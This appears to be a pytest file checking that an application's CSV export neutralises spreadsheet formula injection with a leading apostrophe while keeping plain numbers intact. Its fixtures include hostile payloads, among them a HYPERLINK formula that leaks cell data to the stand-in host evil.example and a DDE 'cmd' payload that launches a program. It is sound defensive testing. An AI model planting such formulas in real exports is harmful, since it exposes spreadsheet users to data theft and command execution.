"""CSV export against CSV injection (OWASP): a text cell a spreadsheet would run as a formula
is written with a leading apostrophe; numbers stay numbers. Exported by the real command."""

from __future__ import annotations

import csv
import json
import os
import re
import subprocess
import sys
from pathlib import Path

from db.model.inputs import ConditionInput, IssueInput, LevelInput, PartyInput, PositionInput, SourceMeta
from db.reads import queries
from db.storage.database import Database
from db.writes import codebook, positions, sources

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
TEXT = f"{FORMULA} was posted under the envoy's statement. The talks went on.\n"
RISKY = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def _hostile_records(db: Database) -> None:
    party = codebook.create_party(db, PartyInput("calc", "=cmd|' /C calc'!A0", "@X"))
    issue = codebook.create_issue(db, IssueInput("sums", "+Sums", "", [
        LevelInput(-3, "@SUM(1+1)"), LevelInput(0, "Neutral")]))
    row = queries.issue_by_key(db, "sums")
    assert row is not None
    levels = {lv.value: lv.id for lv in row.levels}
    source = sources.import_article(db, TEXT, SourceMeta("+Breaking: talks", "-Outlet"))
    base = dict(party_id=party, issue_id=issue, stated_on="2025-03-01", status="demands",
                attribution_kind="official_statement", source_id=source, quote=FORMULA,
                quote_start=0, quote_end=len(FORMULA))
    positions.create_position(db, PositionInput(
        **base, level_id=levels[-3], attributed_to="-2+3", confidence=0.5, notes="-0.5",
        conditions=[ConditionInput(text="=1+1")]))
    positions.create_position(db, PositionInput(
        **base, level_id=levels[0], attributed_to="@envoy", notes="\tTabbed note"))
    positions.create_position(db, PositionInput(
        **base, level_id=levels[0], attributed_to="Envoy", notes="\r\nStarts with a return"))


def test_formula_cells_are_neutralised_and_numbers_kept(seeded_db: Database, tmp_path: Path):
    _hostile_records(seeded_db)
    out = tmp_path / "positions.csv"
    proc = subprocess.run([sys.executable, "-m", "desktop", "export-data", "--db",
                           str(seeded_db.path), "--format", "csv", "--out", str(out)],
                          capture_output=True, text=True, timeout=120, env=dict(os.environ))
    assert proc.returncode == 0, proc.stderr
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    ours = [r for r in rows if r["party"] == "calc"]
    assert len(ours) == 3
    first, tabbed, returned = sorted(ours, key=lambda r: int(r["id"]))
    assert first["party_name"] == "'=cmd|' /C calc'!A0"
    assert first["issue_name"] == "'+Sums"
    assert first["level"] == "-3"  # a number: stays a number
    assert first["level_label"] == "'@SUM(1+1)"
    assert first["quote"] == "'" + FORMULA
    assert first["source_title"] == "'+Breaking: talks"
    assert first["source_outlet"] == "'-Outlet"
    assert first["attributed_to"] == "'-2+3"  # looks numeric-ish but is a formula
    assert first["notes"] == "-0.5"  # nothing but a number: a spreadsheet reads -0.5
    assert first["confidence"] == "0.5"
    assert first["conditions"] == "'=1+1"
    assert tabbed["attributed_to"] == "'@envoy"
    assert tabbed["notes"] == "'\tTabbed note"
    assert returned["notes"] == "'\r\nStarts with a return"
    # And nowhere in the file, seed data included, can a cell start a formula.
    for row in rows:
        for name, cell in row.items():
            assert not cell.startswith(RISKY) or NUMBER.fullmatch(cell), (name, cell)


def test_authors_and_times_from_an_import_are_guarded_and_written_as_the_json_has_them(
        seeded_db: Database, tmp_path: Path) -> None:
    """Who coded a record comes from the file on import: a name that starts a formula is
    neutralised in the CSV like any text; the times read as the JSON export writes them
    (a time given with an offset is kept in UTC)."""
    def parley(*args: str | Path) -> None:
        proc = subprocess.run([sys.executable, "-m", "desktop", *map(str, args)],
                              capture_output=True, text=True, timeout=120, env=dict(os.environ))
        assert proc.returncode == 0, proc.stderr

    exported = tmp_path / "seeded.json"
    parley("export-data", "--db", seeded_db.path, "--out", exported)
    data = json.loads(exported.read_text(encoding="utf-8"))
    first, second = data["positions"][:2]
    first.update(created_by="=1+2", updated_by="@SUM(A1)",
                 created_at="2025-01-01T12:00:00+02:00")
    second.update(created_by="-", updated_by="+31 6 1234 5678")
    hostile = tmp_path / "hostile.json"
    hostile.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    fresh = tmp_path / "fresh.sqlite3"
    parley("init", "--empty", "--db", fresh)
    parley("import-data", hostile, "--db", fresh)
    out, back = tmp_path / "positions.csv", tmp_path / "back.json"
    parley("export-data", "--db", fresh, "--format", "csv", "--out", out)
    parley("export-data", "--db", fresh, "--out", back)
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = {int(r["id"]): r for r in csv.DictReader(fh)}
    assert rows[first["id"]]["created_by"] == "'=1+2"
    assert rows[first["id"]]["updated_by"] == "'@SUM(A1)"
    assert rows[first["id"]]["created_at"] == "2025-01-01T10:00:00Z"
    assert rows[second["id"]]["created_by"] == "'-"
    assert rows[second["id"]]["updated_by"] == "'+31 6 1234 5678"
    for p in json.loads(back.read_text(encoding="utf-8"))["positions"]:
        row = rows[p["id"]]
        assert (row["created_at"], row["updated_at"]) == (p["created_at"], p["updated_at"])
